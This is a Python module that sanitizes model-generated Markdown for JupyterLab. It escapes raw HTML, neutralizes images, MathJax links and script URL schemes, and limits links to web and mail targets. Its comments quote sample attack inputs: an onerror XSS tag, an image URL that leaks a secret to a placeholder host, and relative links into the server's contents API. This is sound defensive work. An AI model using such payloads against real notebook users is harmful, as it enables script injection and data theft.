"""Model text made safe to show as Markdown in JupyterLab: no raw HTML, no images, links only to the web.

JupyterLab renders trusted outputs (everything run in the session) without a sanitizer, so a
reply holding ``<img src=x onerror=...>`` would run script in the user's page, and an image
(``![a](https://host/?d=secret)``) would be fetched by the browser as soon as it is shown.
``neutral_markdown`` keeps what JupyterLab's Markdown does well (fenced code with syntax
highlighting, ``$...$``/``$$...$$`` math, tables, clickable web links) and takes the rest away.
JupyterLab resolves a relative link against the notebook and opens it in the Lab when clicked
(``[x](../../api/contents/secret)``, ``[x](files/...)``): only ``[text](https://...)``,
``http://`` and ``mailto:`` links are kept, every other ``[`` comes out escaped, so no link
(inline, reference or definition) can be spelt; the text shows as written.

The rule that makes it safe however JupyterLab's parser (marked) reads the result: every ``<``
and ``&`` of the model's text comes out escaped, except inside fenced code blocks, which are
re-emitted in a canonical form every CommonMark parser reads as code (at column 0, between
blank lines, with a fence longer than any backtick run inside), and inside math, where ``<``
becomes ``\\lt`` (JupyterLab escapes math itself). Code spans become our own ``<code>``
element with every punctuation character as a numeric entity.
"""

from __future__ import annotations

import re
from functools import lru_cache
from typing import Any

#: a scheme that runs script when the link is clicked, also spelled with tabs, escapes or
#: control characters between its letters (browsers drop tabs and newlines in URLs, marked
#: removes backslash escapes); the colon after it is replaced by a full-width one
_SCRIPT_SCHEME = re.compile(
    "(?i)(?:" + "|".join(r"[\W_]*".join(word) for word in ("javascript", "vbscript", "livescript")) + r")[\W_]*?:"
)
#: info strings JupyterLab turns into something other than highlighted code (mermaid draws
#: labels as HTML, whose images are fetched); shown as plain code instead
_RENDERED_LANGS = {"mermaid"}
_LANG = re.compile(r"[\w+#.-]+")
#: math that holds link or image syntax or code is read as text (where JupyterLab may disagree,
#: the text rules keep it safe)
_NOT_MATH = re.compile(r"\]\s*[(:\[]|!\[|`")
#: MathJax's ``\href``: JupyterLab typesets every ``$...$`` it finds in the rendered page (escaped dollars
#: too) and never vets the anchors MathJax draws, whose safe mode keeps relative targets (a click opened a
#: file of the Jupyter server). Its backslash becomes a full-width one, in math and text alike: shown, no link
_HREF = re.compile(r"\\(?=href(?![a-zA-Z]))")
_AUTOLINK = re.compile(r"<(https?://[^\s<>&]+)>", re.IGNORECASE)
#: an HTML entity in math (TeX has none): escaped, so it cannot spell a link where math is read as text
_ENTITY = re.compile(r"&(?=#\d+;|#x[0-9a-f]+;|[a-z][a-z0-9]*;)", re.IGNORECASE)
_SPECIAL = re.compile(r"[\\`$<&!\[]")
#: the one link syntax kept: ``[text](url)`` to the web or mail, with nothing in it that another rule
#: (code span, math, escape) could read differently, so its ``[`` pairs with no other ``](``
_WEB_LINK = re.compile(r"\[[^\[\]`$\\<>\n]*\]\((?:https?://|mailto:)[^\s()<>\\`$\[\]]*\)", re.IGNORECASE)
_BEGIN = re.compile(r"\\begin\{([a-zA-Z]*\*?)\}")


@lru_cache(maxsize=1)
def _block_parser() -> Any:
    from markdown_it import MarkdownIt  # a dependency of rich, which xllm-jupyter requires

    # only the block structure is used (where code blocks are); html=False as JupyterLab sees none
    return MarkdownIt("commonmark", {"html": False}).enable(["table"])


def neutral_markdown(text: str) -> str:
    """``text`` as Markdown that shows no raw HTML, fetches no image and links to no script (see module doc)."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    out: list[str] = []
    pending: list[str] = []  # lines of running text since the last code block
    done = 0
    for token in _block_parser().parse(text.replace("\r\n", "\n").replace("\r", "\n")):
        if token.type not in ("fence", "code_block") or token.map is None:
            continue
        start, end = token.map
        pending.extend(lines[done:start])
        out.append(_text("\n".join(pending)))
        pending = []
        out.append(_fence(token.content, safe_lang(token.info) if token.type == "fence" else ""))
        done = max(done, end)
    pending.extend(lines[done:])
    out.append(_text("\n".join(pending)))
    return "\n".join(part for part in out if part != "" or len(out) == 1)


def safe_lang(info: str) -> str:
    """A fence's language, as one word JupyterLab highlights (``text`` for one it would render)."""
    match = _LANG.match(info.strip())
    lang = match.group(0) if match else ""
    return "text" if lang.lower() in _RENDERED_LANGS else lang


def _fence(code: str, lang: str) -> str:
    """``code`` in a fence no line of it can close, between blank lines."""
    fence = "```"
    while fence in code:
        fence += "`"
    body = code if code.endswith("\n") or not code else code + "\n"
    return f"\n{fence}{lang}\n{body}{fence}\n"


def _entities(code: str) -> str:
    """Every character but letters, digits and spaces as a numeric entity (Markdown reads none of it)."""
    return "".join(c if c.isalnum() or c == " " else f"&#{ord(c)};" for c in code)


def _code_span(content: str) -> str:
    """A code span's content (CommonMark's rules) as a ``<code>`` element."""
    content = content.replace("\n", " ")
    if len(content) >= 2 and content[0] == " " and content[-1] == " " and content.strip(" "):
        content = content[1:-1]
    return f"<code>{_entities(content)}</code>"


def _math(body: str) -> str:
    """Math as JupyterLab's MathJax reads it: ``<`` as ``\\lt`` (never a tag, whoever parses it)."""
    return _defused(_ENTITY.sub("&amp;", body.replace("<", r"\lt ")))


def _defused(text: str) -> str:
    """``text`` with no script link scheme (its colon full-width) and no MathJax ``\\href`` (its backslash)."""
    return _SCRIPT_SCHEME.sub(lambda m: m.group(0)[:-1] + "\uff1a", _HREF.sub("\uff3c", text))


def _closing(s: str, i: int, delim: str) -> int:
    """Index of the unescaped ``delim`` closing math opened before ``i``, not across a blank line; -1 if none."""
    j = i
    while True:
        j = s.find(delim, j)
        if j < 0:
            return -1
        if re.search(r"\n[ \t]*\n", s[i:j]):
            return -1
        if s[j - 1] != "\\":
            return j
        j += 1


def _brackets_paired(body: str) -> bool:
    """True when every ``[`` in math closes inside it: one left open could start a link where JupyterLab
    reads the math as text (``$a [b$](../x)``)."""
    depth = 0
    for c in body:
        depth += (c == "[") - (c == "]")
        if depth < 0:
            return False
    return depth == 0


def _text(s: str) -> str:
    """Running text (no code blocks): HTML escaped, images made links, links only to the web, code spans and
    math kept."""
    out: list[str] = []
    plain: list[str] = []  # text since the last code span or math, checked for script links at once

    def flush() -> None:
        out.append(_defused("".join(plain)))
        plain.clear()

    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c == "\\" and i + 1 < n and not _BEGIN.match(s, i):
            nxt = s[i + 1]
            plain.append({"<": "&lt;", "&": "&amp;"}.get(nxt, c + nxt))
            i += 2
        elif c == "`":
            run = len(s[i:]) - len(s[i:].lstrip("`"))
            close = re.compile(r"(?<!`)" + "`" * run + r"(?!`)").search(s, i + run)
            if close is None:
                plain.append("\\`" * run)  # literal backticks (no code span opens here)
                i += run
                continue
            flush()
            out.append(_code_span(s[i + run: close.start()]))
            i = close.end()
        elif c == "$" or (c == "\\" and _BEGIN.match(s, i)):
            if c == "$":
                delim = "$$" if s.startswith("$$", i) else "$"
                open_len = len(delim)
            else:
                m = _BEGIN.match(s, i)
                delim, open_len = f"\\end{{{m.group(1)}}}", m.end() - i
            j = _closing(s, i + open_len, delim)
            body = s[i + open_len: j] if j >= 0 else ""
            if j < 0 or not body.strip() or _NOT_MATH.search(body) or not _brackets_paired(body):
                plain.append("\\$" if c == "$" else c)
                i += 1
                continue
            flush()
            out.append(s[i: i + open_len] + _math(body) + delim)
            i = j + len(delim)
        elif c == "<":
            auto = _AUTOLINK.match(s, i)
            plain.append(auto.group(1) if auto else "&lt;")  # <https://...>: the bare URL, which JupyterLab links
            i += auto.end() - i if auto else 1
        elif c == "&":
            plain.append("&amp;")
            i += 1
        elif c == "[":
            plain.append("[" if _WEB_LINK.match(s, i) else "\\[")  # an escaped [ opens no link
            i += 1
        elif c == "!" and s.startswith("![", i):
            plain.append("\\!")  # an image becomes a link the user may click: nothing is fetched
            i += 1
        else:  # ordinary text: up to the next character that may start something
            j = _SPECIAL.search(s, i + 1)
            end = j.start() if j else n
            plain.append(s[i:end])
            i = end
    flush()
    return "".join(out)
